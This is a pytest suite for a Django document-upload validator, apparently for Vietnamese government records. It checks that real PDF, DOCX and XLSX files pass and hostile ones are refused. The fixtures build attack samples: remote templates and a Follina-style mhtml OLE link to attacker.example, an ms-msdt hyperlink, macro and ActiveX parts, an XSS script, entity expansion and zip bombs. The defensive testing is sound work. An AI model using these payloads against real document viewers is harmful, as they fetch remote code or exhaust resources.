"""The files of documents, checked by content: real PDF, DOCX and XLSX files made here pass;
hostile ones (macros, ActiveX, OLE, remote templates, zip bombs, renamed pages, wrong
extensions) are refused with their message, in bounded time and memory."""

import io
import time
import tracemalloc
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from documents import files
from documents.files import validate_document_file

from .conftest import RELS, docx_bytes, pdf_bytes, xlsx_bytes

MB = 1024 * 1024
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512  # an old .doc / an encrypted package
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def upload(data, name):
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def refusal(data, name):
    with pytest.raises(ValidationError) as caught:
        validate_document_file(upload(data, name))
    return caught.value


def message(error):
    return " ".join(error.messages)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("quyet-dinh.pdf", pdf_bytes()),
        ("phu-luc.docx", docx_bytes()),
        ("so-lieu.xlsx", xlsx_bytes()),
        ("QUYET-DINH.PDF", pdf_bytes()),
    ],
)
def test_real_files_pass(name, data):
    validate_document_file(upload(data, name))


def test_a_word_chart_with_its_workbook_passes():
    # Word keeps a chart's data as an embedded workbook: a package, checked the same way.
    chart = docx_bytes(
        extra_types='<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet"/>',
        extra_parts=[("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx_bytes())],
    )
    validate_document_file(upload(chart, "bao-cao.docx"))


def test_printer_settings_are_not_objects():
    sheet = xlsx_bytes()
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sheet)) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            target.writestr(item, source.read(item))
        target.writestr("xl/printerSettings/printerSettings1.bin", b"\0" * 200)
    validate_document_file(upload(buffer.getvalue(), "so-lieu.xlsx"))


def _rewrite(data, add=(), drop=()):
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            if item.filename not in drop:
                target.writestr(item, source.read(item), zipfile.ZIP_DEFLATED)
        for name, content in add:
            target.writestr(name, content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def many_members(count=5000):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for n in range(count):
            archive.writestr(f"word/media/p{n}.xml", b"")
    return buffer.getvalue()


HOSTILE = {
    # name: (file name, bytes, message code)
    "docm renamed docx": (
        "nghi-quyet.docx",
        docx_bytes(
            main_type=DOCM_MAIN,
            extra_types='<Override PartName="/word/vbaProject.bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>',
            extra_parts=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")],
        ),
        "macros",
    ),
    "macro project inside a docx": (
        "nghi-quyet.docx",
        docx_bytes(extra_parts=[("word/vbaProject.bin", b"Attribute VB_Name")]),
        "macros",
    ),
    "macro-enabled workbook renamed xlsx": (
        "so-lieu.xlsx",
        _rewrite(
            xlsx_bytes(),
            add=[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")],
        ),
        "macros",
    ),
    "activex control": (
        "phieu.docx",
        docx_bytes(
            extra_types='<Override PartName="/word/activeX/activeX1.xml" '
            'ContentType="application/vnd.ms-office.activeX+xml"/>',
            extra_parts=[("word/activeX/activeX1.xml", b"<ax:ocx/>")],
        ),
        "activex",
    ),
    "ole object": (
        "phieu.docx",
        docx_bytes(
            extra_types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
            'officedocument.oleObject"/>',
            extra_parts=[("word/embeddings/oleObject1.bin", OLE)],
        ),
        "ole",
    ),
    "executable packaged as an embedding": (
        "phieu.docx",
        docx_bytes(extra_parts=[("word/embeddings/setup.exe", b"MZ\x90\x00" + b"\0" * 60)]),
        "ole",
    ),
    "remote template": (
        "cong-van.docx",
        docx_bytes(
            document_rels=f'<Relationship Id="rId7" Type="{RELS}/attachedTemplate" '
            'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
        ),
        "external",
    ),
    "follina (external ole object, mhtml)": (
        "cong-van.docx",
        docx_bytes(
            document_rels=f'<Relationship Id="rId8" Type="{RELS}/oleObject" '
            'Target="mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html" '
            'TargetMode="External"/>'
        ),
        "external",
    ),
    "hyperlink starting a program": (
        "cong-van.docx",
        docx_bytes(
            document_rels=f'<Relationship Id="rId8" Type="{RELS}/hyperlink" '
            'Target="ms-msdt:/id PCWDiagnostic" TargetMode="External"/>'
        ),
        "external",
    ),
    "imported web page (altChunk)": (
        "cong-van.docx",
        docx_bytes(
            extra_types='<Override PartName="/word/afchunk.htm" ContentType="text/html"/>',
            extra_parts=[("word/afchunk.htm", HTML)],
        ),
        "web_content",
    ),
    "entity expansion in an xml part": (
        "cong-van.docx",
        docx_bytes(
            document_rels="",
            extra_parts=[
                (
                    "word/_rels/settings.xml.rels",
                    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
                    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><Relationships>&b;</Relationships>',
                )
            ],
        ),
        "broken",
    ),
    "too many members": ("so-lieu.xlsx", many_members(), "too_many_parts"),
    "html renamed docx": ("cong-van.docx", HTML, "not_package"),
    "html in front of a docx": ("cong-van.docx", HTML + docx_bytes(), "not_package"),
    "docx carrying a stored web page": (
        "cong-van.docx",
        docx_bytes(extra_parts=[("customXml/item9.xml", HTML)], compression=zipfile.ZIP_STORED),
        "web_page",
    ),
    "old .doc renamed docx": ("cong-van.docx", OLE, "old_format"),
    "pdf named docx": ("cong-van.docx", pdf_bytes(), "wrong_type"),
    "xlsx named docx": ("cong-van.docx", xlsx_bytes(), "wrong_type"),
    "docx named xlsx": ("so-lieu.xlsx", docx_bytes(), "wrong_type"),
    "docx named pdf": ("cong-van.pdf", docx_bytes(), "not_pdf"),
    "html named pdf": ("cong-van.pdf", HTML, "not_pdf"),
    "executable": ("cong-van.exe", b"MZ\x90\x00" + b"\0" * 60, "extension"),
    "old word file": ("cong-van.doc", OLE, "extension"),
    "no extension": ("cong-van", pdf_bytes(), "extension"),
    "truncated docx": ("cong-van.docx", docx_bytes()[:-40], "broken"),
    "no content types": (
        "cong-van.docx",
        _rewrite(docx_bytes(), drop=("[Content_Types].xml",)),
        "broken",
    ),
    "no main part": (
        "cong-van.docx",
        _rewrite(docx_bytes(), drop=("word/document.xml",)),
        "broken",
    ),
}


@pytest.mark.parametrize("case", list(HOSTILE), ids=list(HOSTILE))
def test_hostile_files_are_refused_with_their_reason(case):
    name, data, code = HOSTILE[case]
    assert refusal(data, name).code == code


def test_a_file_over_the_limit_is_refused_before_it_is_read():
    huge = pdf_bytes().replace(b"%%EOF", b"%" + b"0" * (21 * MB) + b"\n%%EOF")
    error = refusal(huge, "quyet-dinh.pdf")
    assert error.code == "too_large"
    assert "20" in message(error)


def zip_bomb(declared=None, size=250 * MB):
    """An XLSX whose one sheet inflates to `size` bytes of spaces (~250 KB compressed). With
    `declared`, its headers claim that many bytes instead (a bomb that lies)."""
    buffer = io.BytesIO()
    sheet = xlsx_bytes()
    packed = zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1)
    with zipfile.ZipFile(io.BytesIO(sheet)) as source, packed as target:
        for item in source.infolist():
            target.writestr(item, source.read(item), zipfile.ZIP_DEFLATED)
        with target.open("xl/worksheets/sheet9.xml", "w", force_zip64=False) as part:
            block = b" " * MB
            for _ in range(size // MB):
                part.write(block)
    data = buffer.getvalue()
    if declared is not None:
        real = size.to_bytes(4, "little")
        fake = declared.to_bytes(4, "little")
        name = b"xl/worksheets/sheet9.xml"
        out = bytearray(data)
        # The sheet's local header (uncompressed size at +22) and its central entry (+24).
        for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            start = 0
            while (start := out.find(signature, start)) >= 0:
                header_name = (
                    out[start + 30 : start + 30 + len(name)]
                    if signature == b"PK\x03\x04"
                    else out[start + 46 : start + 46 + len(name)]
                )
                if header_name == name and out[start + offset : start + offset + 4] == real:
                    out[start + offset : start + offset + 4] = fake
                start += 4
        data = bytes(out)
    return data


@pytest.fixture(scope="module")
def bombs():
    return {"honest": zip_bomb(), "lying": zip_bomb(declared=1000)}


@pytest.mark.parametrize(("kind", "code"), [("honest", "bomb"), ("lying", "bomb")])
def test_zip_bombs_are_stopped_in_bounded_time_and_memory(bombs, kind, code):
    data = bombs[kind]
    assert len(data) < 2 * MB
    tracemalloc.start()
    started = time.perf_counter()
    try:
        error = refusal(data, "so-lieu.xlsx")
    finally:
        elapsed = time.perf_counter() - started
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert error.code == code
    # The upload itself is in memory (2 MB, read once for the checks); the bomb never is.
    assert peak < 40 * MB, peak
    assert elapsed < 5, elapsed


def test_the_member_count_is_read_before_the_directory():
    # 20,000 empty members: zipfile would build an object for each before any check.
    data = many_members(20_000)
    tracemalloc.start()
    try:
        assert refusal(data, "so-lieu.xlsx").code == "too_many_parts"
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 3 * len(data) + 10 * MB, peak


@pytest.mark.parametrize(
    ("language", "code", "expected"),
    [
        ("vi", "macros", "Tệp này có chứa macro"),
        ("en", "macros", "This file contains macros"),
        ("vi", "wrong_type", "bảng tính Excel (XLSX), không phải văn bản Word (DOCX)"),
        ("en", "wrong_type", "an Excel workbook (XLSX), not a Word document (DOCX)"),
        ("vi", "extension", "Vui lòng tải lên tệp PDF, Word (DOCX) hoặc Excel (XLSX)."),
    ],
)
def test_messages_are_in_the_readers_language(language, code, expected):
    data, name = {
        "macros": (HOSTILE["docm renamed docx"][1], "a.docx"),
        "wrong_type": (xlsx_bytes(), "a.docx"),
        "extension": (b"x", "a.exe"),
    }[code]
    with translation.override(language):
        assert expected in message(refusal(data, name))


def test_download_names_come_from_the_document():
    class Attached:
        label = ""
        format = "pdf"
        is_sample = False

    class Document:
        number = "121/QĐ-UBND"
        title = 'Quyết định: thành lập "Liên hiệp" <tỉnh>'

    name = files.download_name(Document, Attached)
    assert name == "121-QĐ-UBND – Quyết định- thành lập -Liên hiệp- -tỉnh.pdf"
    assert files.ascii_name(name) == "121-qd-ubnd - quyet dinh- thanh lap -lien hiep- -tinh.pdf"
    Attached.label = "Phụ lục " + "rất dài " * 30
    assert len(files.download_name(Document, Attached)) < 120
